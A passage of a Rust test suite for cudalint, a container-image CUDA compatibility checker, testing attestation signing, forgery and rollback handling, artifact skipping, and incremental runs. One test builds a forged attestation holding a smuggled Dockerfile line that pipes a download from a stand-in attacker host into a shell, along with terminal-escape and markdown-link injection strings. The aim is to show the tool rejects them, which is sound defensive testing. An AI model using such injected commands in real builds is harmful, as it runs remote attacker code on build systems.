    attach_support(&reg, "att/stale", &manifest, &broken, Some(&key));
    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stderr(&o).contains("does not read as this cudalint's support document"), "{}", stderr(&o));
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()["tool"], newer["tool"]);
    // Believing unsigned statements too, the broken one is still passed over.
    let o = cli_support(&via, &["--from-attestation", "--trust-unsigned", "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stderr(&o).contains("made by cudalint 999.0.0"), "{}", stderr(&o));
    let rejudged: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    for k in ["summary", "floor", "require", "gpus"] {
        assert_eq!(rejudged[k], pushed[k], "{k}");
    }

    // No attestation at all: exit 2, naming the image; nothing pulled in its place.
    let bare = format!("{}/att/bare:1", proxy.host());
    let o = cli_support(&bare, &["--from-attestation", "--trust-unsigned"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    for part in ["no usable cudalint support attestation for att/bare@sha256:", "no inventory attestation"] {
        assert!(stderr(&o).contains(part), "{part}: {}", stderr(&o));
    }
    let layers: serde_json::Value = serde_json::from_slice(
        &Remote::connect(parse_reference(&spec).unwrap(), &opts(None).registry)
            .unwrap()
            .manifest(&parse_reference(&format!("{}/att/stale@{manifest}", reg.host())).unwrap())
            .unwrap()
            .0,
    )
    .unwrap();
    for l in layers["layers"].as_array().unwrap() {
        assert_eq!(proxy.blob_gets(l["digest"].as_str().unwrap()), 0, "{:?}", proxy.requests.lock().unwrap());
    }

    // `scan --attest` pushes the support matrix too (the scan's policy, every GPU).
    let o = cli_scan(&format!("{}/att/bare:1", reg.host()), &["--attest", "--gpu", "H100", "-o", "/dev/null"]);
    assert_ne!(o.status.code(), Some(2), "{}", stderr(&o));
    let types: Vec<String> = attached(&reg, "att/bare", &manifest).into_iter().map(|(t, _)| t).collect();
    assert_eq!(types, [INVENTORY_PREDICATE, SUPPORT_PREDICATE]);
    let o = cli_support(&bare, &["--from-attestation", "--trust-unsigned", "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    for k in ["summary", "floor", "require", "gpus"] {
        assert_eq!(read[k], pushed[k], "{k}");
    }
    assert!(read["notes"].to_string().contains("--trust-unsigned"), "{}", read["notes"]);
    // Those statements are unsigned: with the key they are passed over and the layers read.
    let o = cli_support(&bare, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stderr(&o).contains("judged from its layers instead"), "{}", stderr(&o));
    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    for k in ["summary", "floor", "require", "gpus"] {
        assert_eq!(read[k], pushed[k], "{k}");
    }
}

#[test]
fn a_forged_support_attestation_is_passed_over_and_never_emitted_raw() {
    let (reg, _layout) = stale_image_registry(&["att/forged:1"]);
    let spec = format!("{}/att/forged:1", reg.host());
    let keys = tempfile::tempdir().unwrap();
    let (key, public) = crate::signing::keypair(keys.path(), "attester");
    let (stranger, _) = crate::signing::keypair(keys.path(), "stranger");
    let verify = public.to_str().unwrap();

    let o = cli_support(&spec, &["--attest", "--sign-key", key.to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let honest: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let manifest = honest["image"]["manifest_digest"].as_str().unwrap().to_string();

    // The pushed envelopes verify with openssl against the attester's public key.
    let remote =
        Remote::connect(parse_reference(&format!("{}/att/forged:x", reg.host())).unwrap(), &opts(None).registry)
            .unwrap();
    let (index, _) = remote
        .manifest(&parse_reference(&format!("{}/att/forged:{}", reg.host(), manifest.replace(':', "-"))).unwrap())
        .unwrap();
    let index: serde_json::Value = serde_json::from_slice(&index).unwrap();
    for d in index["manifests"].as_array().unwrap() {
        let r = parse_reference(&format!("{}/att/forged@{}", reg.host(), d["digest"].as_str().unwrap())).unwrap();
        let m: serde_json::Value = serde_json::from_slice(&remote.manifest(&r).unwrap().0).unwrap();
        assert_eq!(m["layers"][0]["mediaType"], "application/vnd.dsse.envelope.v1+json");
        let env = remote.small_blob_bounded(m["layers"][0]["digest"].as_str().unwrap(), 64 << 20).unwrap();
        let (payload_type, payload, sig) = crate::signing::open_envelope(&env);
        assert!(crate::signing::openssl_verifies(&public, &payload_type, &payload, &sig));
    }

    // Forged: every GPU runs, and a requirement that would be a Dockerfile step of its own.
    let mut forged = honest.clone();
    forged["summary"] =
        "FORGED: runs everywhere \u{1b}]8;;https://evil.example\u{7}[approve](https://evil.example)".into();
    forged["require"] = "cuda>=12.0\"\nRUN curl https://evil.example/x | sh\n#".into();
    attach_support(&reg, "att/forged", &manifest, &forged, None);
    attach_support(&reg, "att/forged", &manifest, &forged, Some(&stranger));

    // Signed by the attester alone is believed: the honest matrix, the others noted.
    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(read["summary"], honest["summary"]);
    for part in ["it is not signed", "does not verify against the --verify-key"] {
        assert!(stderr(&o).contains(part), "{part}: {}", stderr(&o));
    }
    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--emit", "dockerfile"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(!String::from_utf8_lossy(&o.stdout).contains("RUN"), "{}", String::from_utf8_lossy(&o.stdout));

    // Believed unsigned, the forgery is shown (the report says why), but never emitted: its
    // requirement is no NVIDIA_REQUIRE_CUDA constraint.
    let o = cli_support(&spec, &["--from-attestation", "--trust-unsigned", "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(read["summary"], forged["summary"]);
    assert!(read["notes"].to_string().contains("--trust-unsigned"), "{}", read["notes"]);
    // Its strings reach no terminal or page raw.
    for (format, raw) in [("text", "\u{1b}"), ("markdown", "](https://evil"), ("html", "<a href=\"https://evil")] {
        let o = cli_support(&spec, &["--from-attestation", "--trust-unsigned", "--format", format]);
        assert_eq!(o.status.code(), Some(0), "{format}: {}", stderr(&o));
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(out.contains("FORGED") && !out.contains(raw), "{format}: {out}");
    }
    for emit in ["dockerfile", "require"] {
        let o = cli_support(&spec, &["--from-attestation", "--trust-unsigned", "--emit", emit]);
        assert_eq!(o.status.code(), Some(2), "{emit}: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "{emit}: {}", String::from_utf8_lossy(&o.stdout));
        assert!(stderr(&o).contains("is not an NVIDIA_REQUIRE_CUDA constraint"), "{emit}: {}", stderr(&o));
        assert!(!stderr(&o).contains('\n') || !stderr(&o).contains("\nRUN"), "{emit}: escaped: {}", stderr(&o));
    }

    // Two statements the attester signed that disagree: no verdict.
    attach_support(&reg, "att/forged", &manifest, &forged, Some(&key));
    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("two signed cudalint support attestations disagree"), "{}", stderr(&o));
}

/// Rollback: an older cudalint's support statement, signed with the same key, pushed after (so
/// listed after) the current one. The newest by what is signed (the cudalint version, then the
/// time) is believed, whatever the list order; the older is passed over with a note. Before, the
/// one listed last was believed: `--emit require` printed the older statement's requirement.
#[test]
fn an_older_signed_support_statement_listed_last_does_not_roll_back_the_matrix() {
    let (reg, _layout) = stale_image_registry(&["att/rollback:1"]);
    let spec = format!("{}/att/rollback:1", reg.host());
    let keys = tempfile::tempdir().unwrap();
    let (key, public) = crate::signing::keypair(keys.path(), "attester");
    let verify = public.to_str().unwrap();
    let o = cli_support(&spec, &["--attest", "--sign-key", key.to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let current: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let manifest = current["image"]["manifest_digest"].as_str().unwrap().to_string();

    // What an older cudalint said: fewer GPUs, another requirement. Validly signed, listed last.
    let mut older = current.clone();
    older["tool"]["version"] = "0.0.1".into();
    older["require"] = "cuda>=12.0,arch>=9.0".into();
    older["summary"] = "the older cudalint's matrix".into();
    attach_support(&reg, "att/rollback", &manifest, &older, Some(&key));
    let listed = attached(&reg, "att/rollback", &manifest);
    assert_eq!(listed.last().unwrap().1["predicate"]["tool"]["version"], "0.0.1", "the older is listed last");

    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--emit", "require"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), current["require"].as_str().unwrap());
    assert_ne!(current["require"], older["require"]);
    // Each statement says when it was made, inside what is signed.
    for (_, st) in &listed {
        assert!(st["https://cudalint.dev/attestation/created"].is_u64(), "{}", st["predicateType"]);
    }
    let o = cli_support(&spec, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(read["summary"], current["summary"]);
    let note = format!("made by cudalint 0.0.1, the newer by cudalint {}", env!("CARGO_PKG_VERSION"));
    assert!(stderr(&o).contains("passed over for the newer sha256:") && stderr(&o).contains(&note), "{}", stderr(&o));
    assert!(read["notes"].to_string().contains(&note), "{}", read["notes"]);
    assert!(!stderr(&o).contains("made by cudalint 0.0.1 (this is"), "the older is not shown: {}", stderr(&o));
}

/// Pushes an image (its blobs, config and manifest) under `repo:tag`; returns the manifest's
/// digest.
fn put_image(reg: &Registry, repo: &str, tag: &str, img: &Image) -> String {
    let b = img.build();
    for blob in b.blobs.iter().chain([&b.config]) {
        reg.put_blob(repo, blob);
    }
    reg.put_manifest(repo, tag, OCI_MANIFEST, &b.manifest)
}

/// Pushes a manifest of `config` and `layers` (media type, bytes, annotations), with
/// `artifactType` and the `subject` (digest, size) when given, under `tag` (else by its
/// digest); returns (digest, manifest bytes).
fn put_artifact(
    reg: &Registry,
    repo: &str,
    tag: Option<&str>,
    artifact_type: Option<&str>,
    config: (&str, &[u8]),
    layers: &[(&str, &[u8], serde_json::Value)],
    subject: Option<(&str, usize)>,
) -> (String, Vec<u8>) {
    reg.put_blob(repo, config.1);
    let mut descs = Vec::new();
    for (mt, data, annotations) in layers {
        reg.put_blob(repo, data);
        let mut d = serde_json::json!({"mediaType": mt, "digest": sha256_of(data), "size": data.len()});
        if !annotations.is_null() {
            d["annotations"] = annotations.clone();
        }
        descs.push(d);
    }
    let mut m = serde_json::json!({
        "schemaVersion": 2, "mediaType": OCI_MANIFEST,
        "config": {"mediaType": config.0, "digest": sha256_of(config.1), "size": config.1.len()},
        "layers": descs,
    });
    if let Some(t) = artifact_type {
        m["artifactType"] = t.into();
    }
    if let Some((d, size)) = subject {
        m["subject"] = serde_json::json!({"mediaType": OCI_MANIFEST, "digest": d, "size": size});
    }
    let m = serde_json::to_vec(&m).unwrap();
    let digest = sha256_of(&m);
    (reg.put_manifest(repo, tag.unwrap_or(&digest), OCI_MANIFEST, &m), m)
}

/// One CUDA library in a gzip layer: `libsm90a.so` runs on H100, `libsm100f.so` does not.
fn one_lib_image(lib: &str, path: &'static str) -> Image {
    Image::new(vec![(tar(&[Ent::File(path, read_fixture(lib))]), Comp::Gzip)])
}

/// What a registry holds besides images, as the tools that make them push it.
struct Artifacts {
    /// The clean image `app/clean:1`'s manifest digest.
    clean: String,
    /// Blob digests of every artifact's layers (none may be pulled), and the BuildKit
    /// attestation manifest's digest (not even its manifest may be read).
    artifact_blobs: Vec<String>,
    attestation_manifest: String,
}

/// A loopback registry holding: `app/clean:1`, an image that runs on H100; `app/buildkit:1`,
/// BuildKit's index of an image that does not (sm_100f only) and its attestation manifest;
/// a Helm chart `charts/demo:0.1.0`; cosign's signature and attestation of the clean image
/// (`sha256-<hex>.sig`, `.att`); an OCI 1.1 SBOM artifact about it (`app/clean:spdx`); another
/// run's analysis store (`other/analyses`); and cudalint's own attestation of the clean image
/// (the referrers tag schema's index `sha256-<hex>`, this registry having no referrers API).
fn artifact_registry(reg: &Registry, work: &Path) -> Artifacts {
    let clean = put_image(reg, "app/clean", "1", &one_lib_image("libsm90a.so", "usr/lib/libsm90a.so"));
    let clean_size = reg.http("GET", "/v2/app/clean/manifests/1", "text/plain", b"").2.len();
    let hex = clean.strip_prefix("sha256:").unwrap().to_string();
    let mut artifact_blobs = Vec::new();
    let mut keep = |layers: &[(&str, &[u8], serde_json::Value)]| {
        artifact_blobs.extend(layers.iter().map(|(_, d, _)| sha256_of(d)));
    };

    // BuildKit: the image and its attestation manifest (platform unknown/unknown) in one index.
    let img = one_lib_image("libsm100f.so", "opt/k/libsm100f.so");
    let built = img.build();
    for blob in built.blobs.iter().chain([&built.config]) {
        reg.put_blob("app/buildkit", blob);
    }
    let image_digest = reg.put_manifest("app/buildkit", &sha256_of(&built.manifest), OCI_MANIFEST, &built.manifest);
    let statement = br#"{"_type":"https://in-toto.io/Statement/v1","predicateType":"https://spdx.dev/Document"}"#;
    let att_config = serde_json::to_vec(&serde_json::json!({
        "architecture": "unknown", "os": "unknown", "config": {},
        "rootfs": {"type": "layers", "diff_ids": [sha256_of(statement)]}}))
    .unwrap();
    let att_layers = [(
        "application/vnd.in-toto+json",
        &statement[..],
        serde_json::json!({"in-toto.io/predicate-type": "https://spdx.dev/Document"}),
    )];
    keep(&att_layers);
    let (att, att_bytes) = put_artifact(
        reg,
        "app/buildkit",
        None,
        None,
        ("application/vnd.oci.image.config.v1+json", &att_config),
        &att_layers,
        None,
    );
    let index = serde_json::to_vec(&serde_json::json!({
    "schemaVersion": 2, "mediaType": OCI_INDEX,
    "manifests": [
        {"mediaType": OCI_MANIFEST, "digest": image_digest, "size": built.manifest.len(),
         "platform": {"architecture": "amd64", "os": "linux"}},
        {"mediaType": OCI_MANIFEST, "digest": att, "size": att_bytes.len(),
         "platform": {"architecture": "unknown", "os": "unknown"},
         "annotations": {"vnd.docker.reference.type": "attestation-manifest",
                         "vnd.docker.reference.digest": image_digest}},
    ]}))
    .unwrap();
    reg.put_manifest("app/buildkit", "1", OCI_INDEX, &index);

    // Helm (`helm push`): its config and the chart as a tar+gzip layer.
    let chart = compress(
        &tar(&[Ent::File("demo/Chart.yaml", b"apiVersion: v2\nname: demo\nversion: 0.1.0\n".to_vec())]),
        Comp::Gzip,
    );
    let helm_layers = [("application/vnd.cncf.helm.chart.content.v1.tar+gzip", &chart[..], serde_json::Value::Null)];
    keep(&helm_layers);
    put_artifact(
        reg,
        "charts/demo",
        Some("0.1.0"),
        None,
        ("application/vnd.cncf.helm.config.v1+json", br#"{"apiVersion":"v2","name":"demo","version":"0.1.0"}"#),
        &helm_layers,
        None,
    );

    // cosign: an image-config manifest whose layer is the simple-signing payload (or, for an
    // attestation, a DSSE envelope), tagged after the image's digest.
    let cosign_config = serde_json::to_vec(&serde_json::json!({
        "architecture": "", "os": "", "config": {}, "created": "0001-01-01T00:00:00Z",
        "rootfs": {"type": "layers", "diff_ids": []}}))
    .unwrap();
    let payload = serde_json::to_vec(&serde_json::json!({"critical": {
        "identity": {"docker-reference": format!("{}/app/clean", reg.host())},
        "image": {"docker-manifest-digest": clean}, "type": "cosign container image signature"}, "optional": null}))
    .unwrap();
    let sig_layers = [(
        "application/vnd.dev.cosign.simplesigning.v1+json",
        &payload[..],
        serde_json::json!({"dev.cosignproject.cosign/signature": "MEUCIQ=="}),
    )];
    keep(&sig_layers);
    let oci_config = "application/vnd.oci.image.config.v1+json";
    put_artifact(
        reg,
        "app/clean",
        Some(&format!("sha256-{hex}.sig")),
        None,
        (oci_config, &cosign_config),
        &sig_layers,
        None,
    );
    let envelope = br#"{"payloadType":"application/vnd.in-toto+json","payload":"e30=","signatures":[]}"#;
    let att_layers =
        [("application/vnd.dsse.envelope.v1+json", &envelope[..], serde_json::json!({"predicateType": "cosign/vuln"}))];
    keep(&att_layers);
    put_artifact(
        reg,
        "app/clean",
        Some(&format!("sha256-{hex}.att")),
        None,
        (oci_config, &cosign_config),
        &att_layers,
        None,
    );

    // An OCI 1.1 SBOM: artifactType, the empty config, the subject.
    let spdx = br#"{"spdxVersion":"SPDX-2.3","name":"clean"}"#;
    let sbom_layers = [("application/spdx+json", &spdx[..], serde_json::Value::Null)];
    keep(&sbom_layers);
    put_artifact(
        reg,
        "app/clean",
        Some("spdx"),
        Some("application/spdx+json"),
        ("application/vnd.oci.empty.v1+json", b"{}"),
        &sbom_layers,
        Some((&clean, clean_size)),
    );

    // Another run's analysis store, and cudalint's own attestation of the clean image.
    let o = registry_run(
        reg,
        &work.join("store-run"),
        &[
            "--repo",
            "app/clean",
            "--tag",
            "1",
            "--analysis-store",
            &format!("{}/other/analyses", reg.host()),
            "--trust-unsigned",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let o = cli_scan(&format!("{}/app/clean:1", reg.host()), &["--attest", "--gpu", "H100", "-o", "/dev/null"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    Artifacts { clean, artifact_blobs, attestation_manifest: att }
}

/// (image without the host, status, reason) of every result of a summary.
fn verdicts(s: &serde_json::Value) -> Vec<(String, String, String)> {
    s["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            let image = i["image"].as_str().unwrap();
            (
                image.split_once('/').unwrap().1.to_string(),
                i["status"].as_str().unwrap().to_string(),
                i["reason"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect()
}

#[test]
fn artifacts_beside_images_are_skipped_naming_their_type_and_the_exit_is_the_images() {
    let reg = Registry::start(false, None);
    let work = tempfile::tempdir().unwrap();
    let a = artifact_registry(&reg, work.path());
    let hex = a.clean.strip_prefix("sha256:").unwrap();
    // Through a proxy that records every request: artifacts are read no further than their
    // manifests.
    let proxy = Proxy::start(reg.port);
    let out = work.path().join("all");
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["registry", &proxy.host(), "--quiet", "--no-cache", "--gpu", "H100", "--output-dir"])
        .arg(&out)
        .output()
        .unwrap();
    // The BuildKit image fails on H100 (exit 1); no artifact is an error (no exit 2).
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let s = summary_of(&out);
    let got = verdicts(&s);
    let find = |image: &str| got.iter().find(|(i, _, _)| i == image).unwrap_or_else(|| panic!("{image}: {got:?}"));
    assert_eq!(find("app/clean:1").1, "pass", "{got:?}");
    // The index's image only: one result, not one per index entry.
    assert_eq!(find("app/buildkit:1").1, "fail", "{got:?}");
    assert_eq!(got.iter().filter(|(i, _, _)| i.starts_with("app/buildkit")).count(), 1, "{got:?}");
    let skipped = |image: &str, kind: &str| {
        let (_, status, reason) = find(image);
        assert_eq!(status, "skipped", "{image}: {got:?}");
        assert_eq!(reason, &format!("not an image ({kind})"), "{image}");
    };
    skipped("charts/demo:0.1.0", "Helm chart, application/vnd.cncf.helm.config.v1+json");
    skipped(
        &format!("app/clean:sha256-{hex}.sig"),
        "cosign signature, application/vnd.dev.cosign.simplesigning.v1+json",
    );
    skipped(&format!("app/clean:sha256-{hex}.att"), "DSSE attestation, application/vnd.dsse.envelope.v1+json");
    skipped("app/clean:spdx", "SBOM, application/spdx+json");
    skipped(&format!("app/clean:sha256-{hex}"), "index of in-toto attestations, application/vnd.in-toto+json");
    let store: Vec<&(String, String, String)> =
        got.iter().filter(|(i, _, _)| i.starts_with("other/analyses:")).collect();
    assert!(store.len() >= 2, "{got:?}");
    for (image, status, reason) in store {
        assert_eq!(status, "skipped", "{image}");
        let kind = if image.contains(":cudalint-layer-") {
            "cudalint analysis store entry, application/vnd.cudalint.layer-analysis.v1"
        } else {
            "cudalint analysis store claim, application/vnd.cudalint.layer-claim.v1"
        };
        assert_eq!(reason, &format!("not an image ({kind})"), "{image}");
    }
    assert_eq!(got.iter().filter(|(_, st, _)| st == "error").count(), 0, "{got:?}");
    // Every skipped tag records its manifest digest; the table counts them apart.
    assert!(
        s["images"].as_array().unwrap().iter().all(|i| i["digest"].as_str().is_some_and(|d| d.starts_with("sha256:")))
    );
    let n = got.iter().filter(|(_, st, _)| st == "skipped").count();
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(
        text.contains(&format!("2 images: 1 passed, 1 failed, 0 could not be scanned; {n} tags skipped (not images)")),
        "{text}"
    );
    let requests = proxy.requests.lock().unwrap().clone();
    // (The images' layers were read through it: it saw the requests.)
    assert!(requests.iter().any(|r| r.contains("/v2/app/buildkit/blobs/")), "{requests:?}");
    for d in &a.artifact_blobs {
        assert!(!requests.iter().any(|r| r.contains(d.as_str())), "{d} was read: {requests:?}");
    }
    assert!(!requests.iter().any(|r| r.contains(&a.attestation_manifest)), "{requests:?}");
    assert!(!requests.iter().any(|r| r.contains("/blobs/") && !r.contains("/v2/app/")), "{requests:?}");
    // The clean image and the artifacts alone: exit 0, whatever the artifacts.
    let o = registry_run(
        &reg,
        &work.path().join("clean"),
        &["--repo", "app/clean", "--repo", "charts/*", "--repo", "other/*"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // `scan` of an artifact: exit 2, saying what it is.
    let o = cli_scan(&format!("{}/charts/demo:0.1.0", reg.host()), &["--gpu", "H100"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("charts/demo:0.1.0: not an image (Helm chart, application/vnd.cncf.helm.config.v1+json)"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_since_run_judges_again_only_what_changed_and_carries_the_rest() {
    let reg = Registry::start(false, None);
    let work = tempfile::tempdir().unwrap();
    artifact_registry(&reg, work.path());
    let w = work.path();
    // Every run signs its summary, and believes only a previous one its key signed.
    let (key, public) = crate::signing::keypair(w, "runs");
    let keys = ["--sign-key", key.to_str().unwrap(), "--verify-key", public.to_str().unwrap()];
    let run = |name: &str, extra: &[&str]| {
        let d = w.join(name);
        let o = registry_run(&reg, &d, &[extra, &keys[..]].concat());
        (o, summary_of(&d), d)
    };
    let since = |s: &serde_json::Value, k: &str| s["since"][k].as_u64().unwrap_or_else(|| panic!("since.{k}: {s}"));
    let (o, first, _) = run("first", &[]);
    // The signature beside the summary: openssl verifies it over the summary's bytes.
    use base64::Engine as _;
    let sig = std::fs::read_to_string(w.join("first/summary.json.sig")).unwrap();
    let sig = base64::engine::general_purpose::STANDARD.decode(sig.trim()).unwrap();
    let bytes = std::fs::read(w.join("first/summary.json")).unwrap();
    let payload_type = "application/vnd.cudalint.registry-summary+json";
    assert!(crate::signing::openssl_verifies(&public, payload_type, &bytes, &sig));
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let skipped = verdicts(&first).iter().filter(|(_, st, _)| st == "skipped").count() as u64;
    assert!(first["fingerprint"].as_str().is_some_and(|f| f.starts_with("sha256:")), "{first}");

    // Nothing changed: every image carried, its report copied, nothing pulled; the exit is
    // still the images' verdicts.
    let prev = w.join("first/summary.json");
    let (o, again, dir) = run("again", &["--since", prev.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert_eq!(verdicts(&again), verdicts(&first));
    assert_eq!((since(&again, "new"), since(&again, "changed"), since(&again, "rejudged")), (0, 0, 0), "{again}");
    assert_eq!((since(&again, "carried"), since(&again, "skipped")), (2, skipped), "{again}");
    assert_eq!(again["stats"]["layers_pulled"], 0, "{again}");
    for i in again["images"].as_array().unwrap().iter().filter(|i| i["status"] != "skipped") {
        assert_eq!(i["change"], "carried", "{i}");
        let report = dir.join(i["report"].as_str().unwrap());
        assert_eq!(
            std::fs::read(&report).unwrap(),
            std::fs::read(w.join("first").join(i["report"].as_str().unwrap())).unwrap()
        );
    }
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(text.contains(&format!(": 0 new, 0 changed, 0 judged again, 2 carried, {skipped} skipped")), "{text}");

    // --since believes a summary only where a key signed it, or behind --trust-unsigned.
    let prev = w.join("first/summary.json");
    let o = registry_run(&reg, &w.join("nokey"), &["--since", prev.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("--verify-key"), "{}", stderr(&o));
    // A status flipped to pass by whoever can write the reports volume (the report and the
    // signature left as they were): with the key, nothing is carried and the failure stands;
    // believed unsigned, the flip would have passed the gate.
    let flipped = w.join("flipped");
    std::fs::create_dir(&flipped).unwrap();
    for e in std::fs::read_dir(w.join("first")).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), flipped.join(e.file_name())).unwrap();
    }
    let mut forged = first.clone();
    for i in forged["images"].as_array_mut().unwrap().iter_mut().filter(|i| i["status"] == "fail") {
        i["status"] = "pass".into();
        i["errors"] = 0.into();
    }
    std::fs::write(flipped.join("summary.json"), serde_json::to_vec_pretty(&forged).unwrap()).unwrap();
    let forged_prev = flipped.join("summary.json");
    let (o, checked, _) = run("checked", &["--since", forged_prev.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(stderr(&o).contains("does not verify"), "{}", stderr(&o));
    assert_eq!(since(&checked, "carried"), 0, "{checked}");
    assert_eq!(verdicts(&checked), verdicts(&first));
    let o = registry_run(&reg, &w.join("believed"), &["--since", forged_prev.to_str().unwrap(), "--trust-unsigned"]);
    assert_eq!(o.status.code(), Some(0), "unsigned trust carries the flip: {}", stderr(&o));
    assert!(String::from_utf8_lossy(&o.stdout).starts_with("trust: UNSIGNED"), "the table says so");
    // A report edited under a signed summary: that image alone is judged again.
    let edited = w.join("edited");
    std::fs::create_dir(&edited).unwrap();
    for e in std::fs::read_dir(w.join("first")).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), edited.join(e.file_name())).unwrap();
    }
    let victim = first["images"].as_array().unwrap().iter().find(|i| i["status"] == "fail").unwrap();
    let report = edited.join(victim["report"].as_str().unwrap());
    let mut r: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    r["findings"] = serde_json::json!([]);
    std::fs::write(&report, serde_json::to_vec(&r).unwrap()).unwrap();
    let (o, redone, _) = run("redone", &["--since", edited.join("summary.json").to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert_eq!((since(&redone, "carried"), since(&redone, "rejudged")), (1, 1), "{redone}");
    assert_eq!(verdicts(&redone), verdicts(&first));

    // The clean tag re-pushed, now failing on H100: it alone is judged again (one layer pulled).
    put_image(&reg, "app/clean", "1", &one_lib_image("libsm100f.so", "usr/lib/libsm100f.so"));
    let prev = w.join("again/summary.json");
    let (o, changed, _) = run("changed", &["--since", prev.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let row = |s: &serde_json::Value, image: &str| {
        s["images"].as_array().unwrap().iter().find(|i| i["image"].as_str().unwrap().ends_with(image)).unwrap().clone()
    };
    assert_eq!(row(&changed, "/app/clean:1")["change"], "changed");
    assert_eq!(row(&changed, "/app/clean:1")["status"], "fail");
    assert_ne!(row(&changed, "/app/clean:1")["digest"], row(&first, "/app/clean:1")["digest"]);
    assert_eq!(row(&changed, "/app/buildkit:1")["change"], "carried");
    assert_eq!((since(&changed, "changed"), since(&changed, "carried")), (1, 1), "{changed}");
    assert_eq!(changed["stats"]["layers_pulled"], 1, "{changed}");
    // Into the directory of the previous summary itself (a shard's usual layout): the reports
    // carried are the ones already there.
    let prev = w.join("changed/summary.json");
    let (o, inplace, dir) = run("changed", &["--since", prev.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert_eq!((since(&inplace, "carried"), since(&inplace, "changed")), (2, 0), "{inplace}");
    for i in inplace["images"].as_array().unwrap().iter().filter(|i| i["status"] != "skipped") {
        assert!(dir.join(i["report"].as_str().unwrap()).is_file(), "{i}");
    }

    // Other targets: nothing is carried, and the summary says why.
    let prev = w.join("changed/summary.json");
    let (o, other, _) = run("other-gpu", &["--since", prev.to_str().unwrap(), "--gpu", "B200"]);
    assert_ne!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_eq!((since(&other, "carried"), since(&other, "rejudged")), (0, 2), "{other}");
    assert!(other["since"]["all_rejudged"].as_str().is_some_and(|w| w.contains("targets")), "{other}");

    // Shards, each against the previous whole run's summary, merge into the whole again.
    let mut parts = Vec::new();
    for k in 0..2 {
        let (o, _, d) = run(&format!("shard{k}"), &["--since", prev.to_str().unwrap(), "--shard", &format!("{k}/2")]);
        assert_eq!(o.status.code().map(|c| c < 2), Some(true), "{}", stderr(&o));
        parts.push(d.join("summary.json"));
    }
    let merged = w.join("merged.json");
    let o = Command::cargo_bin("cudalint").unwrap().arg("merge").args(&parts).arg("-o").arg(&merged).output().unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(&merged).unwrap()).unwrap();
    assert_eq!(verdicts(&m), verdicts(&changed));
    assert_eq!(m["fingerprint"], changed["fingerprint"]);
    assert_eq!((since(&m, "carried"), since(&m, "skipped"), since(&m, "changed")), (2, skipped, 0), "{m}");
}

/// `--since` after the knowledge changed under the same `--knowledge` file: the row that gated an
/// sm_90a-only library on an L4 (so the tag passed) removed, the tag is judged again and fails;
/// before the knowledge digest was in the fingerprint, the pass was carried over.
#[test]
fn a_since_run_after_a_knowledge_row_is_removed_judges_again() {
    let reg = Registry::start(false, None);
